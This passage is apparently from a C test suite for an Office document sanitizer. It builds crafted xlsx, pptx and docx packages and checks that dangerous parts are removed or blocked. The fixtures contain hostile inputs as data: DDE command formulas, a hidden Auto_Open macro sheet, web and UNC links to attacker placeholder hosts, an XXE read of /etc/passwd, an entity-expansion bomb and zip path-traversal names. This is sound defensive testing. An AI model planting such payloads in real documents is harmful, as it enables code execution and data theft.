		 OVR("/xl/queryTables/queryTable1.xml", SML "queryTable+xml") CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("xl/workbook.xml")},
		{.name = "xl/workbook.xml",
		 .data = XMLDECL "<workbook" X_NS "><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/>"
		 "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets>"
		 "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>"
		 "<definedName name=\"Ext\">[1]Sheet1!$A$1</definedName><definedName name=\"Keep\">Data!$A$1</definedName></definedNames>"
		 "<externalReferences><externalReference r:id=\"rId3\"/></externalReferences></workbook>"},
		{.name = "xl/_rels/workbook.xml.rels",
		 .data = RELS_HEAD REL("rId1", "worksheet", "worksheets/sheet1.xml")
		 "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet2.xml\"/>"
		 REL("rId3", "externalLink", "externalLinks/externalLink1.xml")
		 REL("rId4", "connections", "connections.xml") RELS_TAIL},
		{.name = "xl/worksheets/sheet1.xml",
		 .data = XMLDECL "<worksheet" X_NS "><sheetData><row r=\"1\">"
		 "<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c>"
		 "<c r=\"B1\"><f>[1]Sheet1!A1*2</f><v>42</v></c>"
		 "<c r=\"C1\"><f>SUM(1,2)&amp;\"a|b\"</f><v>3a|b</v></c>"
		 "<c r=\"D1\" t=\"inlineStr\"><is><t>visible text</t></is></c>"
		 "<c r=\"E1\"><f>SUM(Table1[2019])+'[2]Other sheet'!B2</f><v>5</v></c>"
		 "<c r=\"F1\"><f>SUM(Table1[2019])</f><v>6</v></c>"
		 "<c r=\"G1\"><f>_xlfn.WEBSERVICE(\"http://tracker.example/?\"&amp;A1)</f><v>x</v></c>"
		 "<c r=\"H1\"><f>rtd(\"srv\",,\"t\")</f><v>1</v></c>"
		 "<c r=\"I1\"><f>MYRTD(1)+\"EXEC(\"</f><v>2</v></c>"
		 "<c r=\"J1\"><f aca=\"false\">DDE(\"cmd\",\"/c calc\",\"A1\")</f><v>#N/A</v></c>"
		 "<c r=\"K1\"><f>MYDDE(1)</f><v>3</v></c>"
		 "</row></sheetData></worksheet>"},
		{.name = "xl/worksheets/_rels/sheet1.xml.rels",
		 .data = RELS_HEAD REL("rId1", "queryTable", "../queryTables/queryTable1.xml") RELS_TAIL},
		{.name = "xl/macrosheets/sheet2.xml",
		 .data = XMLDECL "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData/></xm:macrosheet>"},
		{.name = "xl/externalLinks/externalLink1.xml",
		 .data = XMLDECL "<externalLink" X_NS "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"},
		{.name = "xl/connections.xml",
		 .data = XMLDECL "<connections" X_NS "><connection id=\"1\" name=\"c\" type=\"4\"><webPr url=\"http://evil.example/\"/></connection></connections>"},
		{.name = "xl/queryTables/queryTable1.xml",
		 .data = XMLDECL "<queryTable" X_NS " name=\"q\" connectionId=\"1\"/>"},
	};
	sk_buf in;
	mkzip(&in, e, sizeof(e) / sizeof(e[0]));
	tu_run r;
	run_buf(&in, "book.xlsm", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_string_equal(r.res.type.code, "xlsx");
	assert_string_equal(r.res.report.out_ext, "xlsx");
	assert_false(zgrep(&r.out, "macrosheet"));
	assert_false(zgrep(&r.out, "externalLink"));
	assert_false(zgrep(&r.out, "connections"));
	assert_false(zgrep(&r.out, "queryTable"));
	assert_false(zgrep(&r.out, "ddeLink"));
	assert_false(zgrep(&r.out, "Auto_Open"));
	assert_false(zgrep(&r.out, "macroEnabled"));
	char *wb = zget(&r.out, "xl/workbook.xml");
	assert_true(has_str(wb, "name=\"Data\""));
	assert_false(has_str(wb, "Macro1"));
	assert_false(has_str(wb, "[1]"));
	assert_true(has_str(wb, "name=\"Keep\""));
	free(wb);
	char *sh = zget(&r.out, "xl/worksheets/sheet1.xml");
	assert_false(has_str(sh, "cmd|"));
	assert_false(has_str(sh, "[1]"));
	assert_true(has_str(sh, "<v>42</v>")); /* cached values stay */
	assert_true(has_str(sh, "SUM(1,2)"));  /* a | in a string is not DDE */
	assert_false(has_str(sh, "Other sheet"));
	assert_true(has_str(sh, "<f>SUM(Table1[2019])</f>")); /* a table column, not a link */
	assert_false(has_str(sh, "WEBSERVICE"));
	assert_false(has_str(sh, "rtd("));
	assert_true(has_str(sh, "MYRTD(1)")); /* another function, and EXEC( in a string */
	assert_false(has_str(sh, "DDE(\"cmd\"")); /* LibreOffice's DDE() function */
	assert_true(has_str(sh, "MYDDE(1)"));
	assert_true(has_str(sh, "visible text"));
	free(sh);
	assert_true(reported(&r, SK_ACTION_REMOVED, "macro-sheet", "xl/macrosheets/sheet2.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "external-link", "xl/externalLinks/externalLink1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "data-connection", "xl/connections.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "data-connection", "xl/queryTables/queryTable1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "dde", "xl/worksheets/sheet1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "macro-sheet", "xl/workbook.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- PowerPoint: OLE frames, ActiveX, program-launching actions -------------------------- */

#define P_NS " xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"" RNS "\""
#define PML OD "presentationml."

static void pptx_parts(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "[Content_Types].xml",
		 .data = CT_HEAD OVR("/ppt/presentation.xml", PML "presentation.main+xml")
		 OVR("/ppt/slides/slide1.xml", PML "slide+xml")
		 "<Default Extension=\"bin\" ContentType=\"" OD "oleObject\"/>" CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("ppt/presentation.xml")},
		{.name = "ppt/presentation.xml",
		 .data = XMLDECL "<p:presentation" P_NS "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>"},
		{.name = "ppt/_rels/presentation.xml.rels", .data = RELS_HEAD REL("rId2", "slide", "slides/slide1.xml") RELS_TAIL},
		{.name = "ppt/slides/slide1.xml",
		 .data = XMLDECL "<p:sld" P_NS "><p:cSld><p:spTree>"
		 "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"t\"><a:hlinkClick r:id=\"rId3\" action=\"ppaction://program\"/></p:cNvPr></p:nvSpPr>"
		 "<p:txBody><a:p><a:r><a:t>slide text</a:t></a:r></a:p></p:txBody></p:sp>"
		 "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"3\" name=\"Object\"/></p:nvGraphicFramePr>"
		 "<a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\">"
		 "<p:oleObj spid=\"_x0000_s1\" name=\"Packager Shell Object\" r:id=\"rId4\" progId=\"Package\"><p:embed/></p:oleObj>"
		 "</a:graphicData></a:graphic></p:graphicFrame>"
		 "</p:spTree></p:cSld><p:controls><p:control spid=\"_x0000_s2\" name=\"c\" r:id=\"rId5\"/></p:controls></p:sld>"},
		{.name = "ppt/slides/_rels/slide1.xml.rels",
		 .data = RELS_HEAD RELX("rId3", "hyperlink", "cmd.exe") REL("rId4", "oleObject", "../embeddings/oleObject1.bin")
		 REL("rId5", "control", "../activeX/activeX1.xml") RELS_TAIL},
		{.name = "ppt/embeddings/oleObject1.bin", .data = "\xD0\xCF\x11\xE0 obj", .len = 8},
	};
	sk_buf in;
	mkzip(&in, e, sizeof(e) / sizeof(e[0]));
	tu_run r;
	run_buf(&in, "deck.pptx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_string_equal(r.res.type.code, "pptx");
	char *s = zget(&r.out, "ppt/slides/slide1.xml");
	assert_true(has_str(s, "slide text"));
	assert_false(has_str(s, "ppaction://program"));
	assert_false(has_str(s, "oleObj"));
	assert_false(has_str(s, "graphicFrame"));
	assert_false(has_str(s, "p:control"));
	free(s);
	assert_false(zgrep(&r.out, "cmd.exe"));
	assert_false(zgrep(&r.out, "embeddings"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "launch", "ppt/slides/slide1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "ole-object", "ppt/slides/slide1.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "activex", "ppt/slides/slide1.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- metadata --------------------------------------------------------------------------- */

#define CORE                                                                                 \
	XMLDECL "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"" \
		" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:dcterms=\"http://purl.org/dc/terms/\">" \
		"<dc:title>Budget 2024</dc:title><dc:creator>Taro Yamada</dc:creator>"              \
		"<cp:lastModifiedBy>Hanako Suzuki</cp:lastModifiedBy><cp:revision>7</cp:revision></cp:coreProperties>"
#define APP                                                                                  \
	XMLDECL "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\">" \
		"<Company>Example City Hall</Company><HyperlinkBase>\\\\attacker\\share\\</HyperlinkBase></Properties>"

static void metadata(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "[Content_Types].xml",
		 .data = CT_HEAD OVR("/word/document.xml", CT_DOCX)
		 OVR("/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")
		 OVR("/docProps/app.xml", OD "extended-properties+xml")
		 OVR("/docProps/custom.xml", OD "custom-properties+xml") CT_TAIL},
		{.name = "_rels/.rels",
		 .data = RELS_HEAD REL("rId1", "officeDocument", "word/document.xml")
		 "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/>"
		 REL("rId3", "extended-properties", "docProps/app.xml") REL("rId4", "custom-properties", "docProps/custom.xml") RELS_TAIL},
		{.name = "word/document.xml", .data = W_DOC(P("body"))},
		{.name = "docProps/core.xml", .data = CORE},
		{.name = "docProps/app.xml", .data = APP},
		{.name = "docProps/custom.xml",
		 .data = XMLDECL "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"><property name=\"Owner\">secret</property></Properties>"},
	};
	sk_buf in;
	mkzip(&in, e, sizeof(e) / sizeof(e[0]));
	tu_run r;
	run_buf(&in, "meta.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "Taro"));
	assert_false(zgrep(&r.out, "Hanako"));
	assert_false(zgrep(&r.out, "Example City Hall"));
	assert_false(zgrep(&r.out, "secret"));
	assert_false(zhas(&r.out, "docProps/app.xml"));
	assert_false(zhas(&r.out, "docProps/custom.xml"));
	char *c = zget(&r.out, "docProps/core.xml");
	assert_true(has_str(c, "Budget 2024"));
	free(c);
	assert_true(reported(&r, SK_ACTION_REMOVED, "document-properties", "docProps/core.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "document-properties", "docProps/app.xml"));
	/* entry times are reset too */
	zip_t *zo = zopen(&r.out);
	zip_stat_t st;
	assert_int_equal(zip_stat(zo, "word/document.xml", 0, &st), 0);
	struct tm tm;
	localtime_r(&st.mtime, &tm);
	assert_int_equal(tm.tm_year, 80);
	zip_discard(zo);
	tu_free(&r);

	/* a profile that keeps metadata keeps the properties, but not a UNC link base */
	sk_profile keep = *sk_profile_default();
	keep.strip_metadata = false;
	sk_options opt;
	sk_options_default(&opt);
	opt.profile = &keep;
	run_buf(&in, "meta.docx", &opt, &r);
	dump_report(&r);
	assert_true(zgrep(&r.out, "Taro"));
	assert_true(zgrep(&r.out, "Example City Hall"));
	assert_false(zgrep(&r.out, "attacker"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "external-relationship", "docProps/app.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- comments and tracked changes ---------------------------------------------------------- */

static void comments_revisions(void **state)
{
	(void)state;
	sk_buf in;
	ent extra[] = {
		{.name = "word/comments.xml",
		 .data = XMLDECL "<w:comments" W_NS "><w:comment w:id=\"0\" w:author=\"Reviewer\"><w:p><w:r><w:t>please check</w:t></w:r></w:p></w:comment></w:comments>"},
	};
	docx(&in, CT_DOCX, OVR("/word/comments.xml", OD "wordprocessingml.comments+xml"),
	     W_DOC("<w:p><w:commentRangeStart w:id=\"0\"/>" RUN("kept text") "<w:commentRangeEnd w:id=\"0\"/>"
		   "<w:r><w:commentReference w:id=\"0\"/></w:r>"
		   "<w:ins w:id=\"1\" w:author=\"A\">" RUN("inserted text") "</w:ins>"
		   "<w:del w:id=\"2\" w:author=\"A\"><w:r><w:delText>deleted text</w:delText></w:r></w:del></w:p>"
		   "<w:p><w:pPr><w:rPr><w:ins w:id=\"3\" w:author=\"A\"/></w:rPr></w:pPr>"
		   "<w:r><w:rPr><w:b/><w:rPrChange w:id=\"4\" w:author=\"A\"><w:rPr/></w:rPrChange></w:rPr><w:t>bold now</w:t></w:r></w:p>"),
	     REL("rId1", "comments", "comments.xml"), extra, 1);
	tu_run r;
	/* default: users need them */
	run_buf(&in, "c.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_true(zhas(&r.out, "word/comments.xml"));
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "w:commentReference"));
	assert_true(has_str(d, "deleted text"));
	assert_true(has_str(d, "<w:ins "));
	free(d);
	tu_free(&r);

	/* strict: removed, changes accepted */
	sk_options opt;
	sk_options_default(&opt);
	opt.profile = sk_profile_find("strict");
	run_buf(&in, "c.docx", &opt, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zhas(&r.out, "word/comments.xml"));
	assert_false(zgrep(&r.out, "please check"));
	d = zget(&r.out, "word/document.xml");
	assert_false(has_str(d, "comment"));
	assert_false(has_str(d, "deleted text"));
	assert_false(has_str(d, "w:ins"));
	assert_false(has_str(d, "w:del"));
	assert_false(has_str(d, "rPrChange"));
	assert_true(has_str(d, "kept text"));
	assert_true(has_str(d, "inserted text"));
	assert_true(has_str(d, "bold now"));
	assert_true(has_str(d, "<w:b/>"));
	free(d);
	assert_true(reported(&r, SK_ACTION_REMOVED, "comment", "word/comments.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "comment", "word/document.xml"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "revision", "word/document.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- repairs ----------------------------------------------------------------------------- */

static void repair_content_types(void **state)
{
	(void)state;
	const char *cts[] = {NULL, XMLDECL "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><an <invalid", 
			     XMLDECL "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override NotContentType=\"x\" PartName=\"/word/document.xml\"/></Types>"};
	const char *problems[] = {"missing", "malformed", "malformed"};
	for (size_t i = 0; i < 3; i++) {
		ent e[5];
		size_t n = 0;
		if (cts[i])
			e[n++] = (ent){.name = "[Content_Types].xml", .data = cts[i]};
		e[n++] = (ent){.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")};
		e[n++] = (ent){.name = "word/document.xml", .data = W_DOC(P("repaired"))};
		e[n++] = (ent){.name = "word/_rels/document.xml.rels",
			       .data = RELS_HEAD REL("rId1", "styles", "styles.xml") RELS_TAIL};
		e[n++] = (ent){.name = "word/styles.xml", .data = XMLDECL "<w:styles" W_NS "/>"};
		sk_buf in;
		mkzip(&in, e, n);
		tu_run r;
		run_buf(&in, "broken.docx", NULL, &r);
		dump_report(&r);
		assert_verdict(&r, SK_VERDICT_SANITIZED);
		assert_string_equal(r.res.type.code, "docx");
		const sk_report_entry *re = tu_find_where(&r.res.report, "[Content_Types].xml");
		assert_non_null(re);
		assert_int_equal(re->action, SK_ACTION_REPAIRED);
		assert_string_equal(re->what, "content-types");
		assert_string_equal(re->detail, problems[i]);
		char *ct = zget(&r.out, "[Content_Types].xml");
		assert_true(has_str(ct, "PartName=\"/word/document.xml\" ContentType=\"" CT_DOCX "\""));
		assert_true(has_str(ct, "PartName=\"/word/styles.xml\" ContentType=\"" OD "wordprocessingml.styles+xml\""));
		free(ct);
		tu_free(&r);
		sk_buf_free(&in);
	}
}

static void dangling_rels(void **state)
{
	(void)state;
	sk_buf in;
	docx(&in, CT_DOCX, NULL,
	     W_DOC("<w:p><w:r><w:drawing><a:blip r:embed=\"rId2\"/></w:drawing></w:r></w:p>" P("text")),
	     REL("rId2", "image", "media/missing.png") REL("rId3", "styles", "../../../etc/passwd")
	     "<Relationship Id=\"rId4\" Type=\"" RT "styles\"/>",
	     NULL, 0);
	tu_run r;
	run_buf(&in, "dangling.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zhas(&r.out, "word/_rels/document.xml.rels"));
	char *d = zget(&r.out, "word/document.xml");
	assert_false(has_str(d, "r:embed"));
	assert_true(has_str(d, "text"));
	free(d);
	const sk_report_entry *e = tu_find_where(&r.res.report, "word/_rels/document.xml.rels");
	assert_non_null(e);
	assert_int_equal(e->action, SK_ACTION_REPAIRED);
	assert_string_equal(e->what, "relationship");
	assert_int_equal(e->count, 3);
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- XML edge cases ------------------------------------------------------------------------ */

static void xml_edge_cases(void **state)
{
	(void)state;
	/* UTF-16 styles: rewritten in UTF-8; a namespace declared on an unwrapped w:ins;
	 * a custom XML part whose root element is a DDE field */
	static const char styles8[] = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:styles" W_NS "><w:docDefaults/></w:styles>";
	uint16_t styles16[sizeof(styles8)];
	styles16[0] = 0xFEFF;
	for (size_t i = 0; i + 1 < sizeof(styles8); i++)
		styles16[i + 1] = (uint16_t)(unsigned char)styles8[i];
	ent extra[] = {
		{.name = "word/styles.xml", .data = (const char *)styles16, .len = sizeof(styles8) * 2},
		{.name = "customXml/item1.xml",
		 .data = XMLDECL "<w:fldSimple" W_NS " w:instr=\"DDEAUTO cmd x\"><w:r><w:t>x</w:t></w:r></w:fldSimple>"},
	};
	sk_buf in;
	docx(&in, "application/xml", OVR("/word/styles.xml", OD "wordprocessingml.styles+xml"),
	     W_DOC("<w:p><w:ins w:id=\"1\" w:author=\"a\" xmlns:x=\"urn:example:x\"><w:r><x:mark x:v=\"1\"/><w:t>inserted</w:t></w:r></w:ins></w:p>"),
	     REL("rId1", "styles", "styles.xml") REL("rId2", "customXml", "../customXml/item1.xml"),
	     extra, 2);
	sk_options opt;
	sk_options_default(&opt);
	opt.profile = sk_profile_find("strict");
	tu_run r;
	run_buf(&in, "edge.docx", &opt, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	/* the main part declared as application/xml: its type comes from its name */
	assert_true(reported(&r, SK_ACTION_REPAIRED, "content-types", "[Content_Types].xml"));
	char *ct = zget(&r.out, "[Content_Types].xml");
	assert_true(has_str(ct, "PartName=\"/word/document.xml\" ContentType=\"" CT_DOCX "\""));
	free(ct);
	char *st = zget(&r.out, "word/styles.xml");
	assert_non_null(st);
	assert_true(!strncmp(st, "<?xml version=\"1.0\" encoding=\"UTF-8\"", 36));
	assert_true(has_str(st, "w:docDefaults"));
	free(st);
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "inserted"));
	assert_false(has_str(d, "w:ins"));
	assert_true(has_str(d, "x:mark"));
	assert_true(has_str(d, "xmlns:x=\"urn:example:x\""));
	free(d);
	assert_false(zhas(&r.out, "customXml/item1.xml"));
	assert_false(zgrep(&r.out, "DDEAUTO"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "customXml/item1.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- hostile XML and broken packages ------------------------------------------------------- */

static void xxe_and_entities(void **state)
{
	(void)state;
	const char *docs[] = {
		XMLDECL "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document" W_NS "><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>",
		XMLDECL "<!DOCTYPE lolz [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
		"<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
		"<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
		"<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>"
		"<w:document" W_NS "><w:body><w:p><w:r><w:t>&h;</w:t></w:r></w:p></w:body></w:document>",
		XMLDECL "<!DOCTYPE w:document SYSTEM \"http://attacker.example/x.dtd\"><w:document" W_NS "><w:body/></w:document>",
		XMLDECL "<w:document" W_NS "><w:body><w:p><w:r><w:t>&undeclared;</w:t></w:r></w:p></w:body></w:document>",
		"this is not XML at all",
		XMLDECL "<w:document" W_NS "><w:body><w:p></w:body></w:document>",
	};
	for (size_t i = 0; i < sizeof(docs) / sizeof(docs[0]); i++) {
		sk_buf in;
		docx(&in, CT_DOCX, NULL, docs[i], NULL, NULL, 0);
		clock_t t0 = clock();
		tu_run r;
		tu_process(in.data, in.len, "x.docx", NULL, &r);
		assert_true(clock() - t0 < 2 * CLOCKS_PER_SEC);
		assert_verdict(&r, SK_VERDICT_BLOCKED);
		assert_reason(&r, SK_REASON_MALFORMED);
		tu_free(&r);
		sk_buf_free(&in);
	}
	/* in another part: the part goes, the document stays */
	sk_buf in;
	ent extra[] = {{.name = "word/styles.xml", .data = docs[0]}};
	docx(&in, CT_DOCX, OVR("/word/styles.xml", OD "wordprocessingml.styles+xml"),
	     W_DOC(P("body")), REL("rId1", "styles", "styles.xml"), extra, 1);
	tu_run r;
	run_buf(&in, "x.docx", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zhas(&r.out, "word/styles.xml"));
	assert_false(zgrep(&r.out, "root:"));
	assert_false(zgrep(&r.out, "DOCTYPE"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/styles.xml"));
	tu_free(&r);
	sk_buf_free(&in);
}

static void broken_packages(void **state)
{
	(void)state;
	tu_run r;
	sk_buf in;
	/* no main document relationship */
	ent e1[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = RELS_HEAD RELS_TAIL},
		{.name = "word/document.xml", .data = W_DOC(P("x"))},
	};
	mkzip(&in, e1, 3);
	tu_process(in.data, in.len, "x.docx", NULL, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&in);
	/* two entries for one part name (case-insensitive) */
	ent e2[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("one"))},
		{.name = "Word/Document.xml", .data = W_DOC(P("two"))},
	};
	mkzip(&in, e2, 4);
	tu_process(in.data, in.len, "x.docx", NULL, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&in);
	/* a binary workbook (xlsb) is not rebuilt here: converted when the job can, else
	 * blocked as a legacy format */
	ent e3[] = {
		{.name = "[Content_Types].xml",
		 .data = CT_HEAD OVR("/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main") CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("xl/workbook.bin")},
		{.name = "xl/workbook.bin", .data = "\x83\x01\x00binary", .len = 9},
	};
	mkzip(&in, e3, 3);
	tu_process(in.data, in.len, "x.xlsb", NULL, &r);
	assert_string_equal(r.res.type.code, "xlsb");
	assert_reason(&r, SK_REASON_UNSUPPORTED_LEGACY_OFFICE);
	tu_free(&r);
	sk_buf_free(&in);
	/* a damaged relationships part */
	ent e4[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("x"))},
		{.name = "word/_rels/document.xml.rels", .data = RELS_HEAD "<Relationship"},
	};
	mkzip(&in, e4, 4);
	tu_process(in.data, in.len, "x.docx", NULL, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&in);
	/* an unsafe entry name is dropped, the rest delivered */
	ent e5[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("x"))},
		{.name = "../../evil.xml", .data = "<x/>"},
	};
	mkzip(&in, e5, 4);
	run_buf(&in, "x.docx", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "evil"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "evil.xml"));
	tu_free(&r);
	sk_buf_free(&in);
	/* a part name with a NUL byte (readers disagree on where it ends): removed as unsafe */
	ent e6[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("x"))},
		{.name = "word/nulQname.xml", .data = "<x>nul-name-part</x>"},
	};
	mkzip(&in, e6, 4);
	int patched = 0;
	for (size_t i = 0; i + 5 <= in.len; i++)
		if (!memcmp(in.data + i, "nulQn", 5)) {
			in.data[i + 3] = 0;
			patched++;
		}
	assert_int_equal(patched, 2); /* the local header and the central record */
	run_buf(&in, "x.docx", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zgrep(&r.out, "nul-name-part"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/nul"));
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- unknown parts and images ------------------------------------------------------------ */

static void parts_and_images(void **state)
{
	(void)state;
	sk_buf in;
	ent extra[] = {
		{.name = "word/media/image1.png", .data = (const char *)png1, .len = sizeof(png1)},
		{.name = "word/media/setup.py", .data = "import os\nos.system('calc')\n"},
		{.name = "word/payload.bin", .data = "\x4D\x5A\x90\x00 PE", .len = 7},
		{.name = "word/fontTable.xml", .data = XMLDECL "<w:fonts" W_NS "><w:font w:name=\"X\"><w:embedRegular r:id=\"rId1\"/></w:font></w:fonts>"},
		{.name = "word/_rels/fontTable.xml.rels",
		 .data = RELS_HEAD REL("rId1", "font", "fonts/font1.odttf") RELS_TAIL},
		{.name = "word/fonts/font1.odttf", .data = "\x00\x01\x00\x00 obfuscated font", .len = 20},
		{.name = "word/media/fake.png", .data = "MZ this is no image"},
	};
	docx(&in, CT_DOCX,
	     "<Default Extension=\"png\" ContentType=\"image/png\"/>"
	     "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>"
	     "<Default Extension=\"odttf\" ContentType=\"" OD "obfuscatedFont\"/>"
	     OVR("/word/fontTable.xml", OD "wordprocessingml.fontTable+xml"),
	     W_DOC("<w:p><w:r><w:drawing><a:blip r:embed=\"rId2\"/></w:drawing></w:r></w:p>"
		   "<w:p><w:r><w:drawing><a:blip r:embed=\"rId5\"/></w:drawing></w:r></w:p>" P("picture above")),
	     REL("rId2", "image", "media/image1.png") REL("rId3", "custom", "payload.bin")
	     REL("rId4", "fontTable", "fontTable.xml") REL("rId5", "image", "media/fake.png"),
	     extra, sizeof(extra) / sizeof(extra[0]));
	tu_run r;
	run_buf(&in, "img.docx", NULL, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_false(zhas(&r.out, "word/media/setup.py"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/media/setup.py"));
	assert_false(zhas(&r.out, "word/payload.bin"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/payload.bin"));
	assert_false(zhas(&r.out, "word/fonts/font1.odttf"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/fonts/font1.odttf"));
	/* an executable posing as an image never passes */
	assert_false(zhas(&r.out, "word/media/fake.png"));
	assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/media/fake.png"));
	char *d = zget(&r.out, "word/document.xml");
	assert_false(has_str(d, "rId5"));
	/* the image: either rebuilt by the image module, or removed and reported */
	char *img = zget(&r.out, "word/media/image1.png");
	if (img) {
		sk_input i2;
		zip_t *zo = zopen(&r.out);
		zip_stat_t st;
		assert_int_equal(zip_stat(zo, "word/media/image1.png", 0, &st), 0);
		sk_input_mem(&i2, img, st.size);
		sk_type t;
		assert_int_equal(sk_detect(&i2, NULL, &t, NULL), 0);
		assert_int_equal(t.kind, SK_KIND_PNG);
		zip_discard(zo);
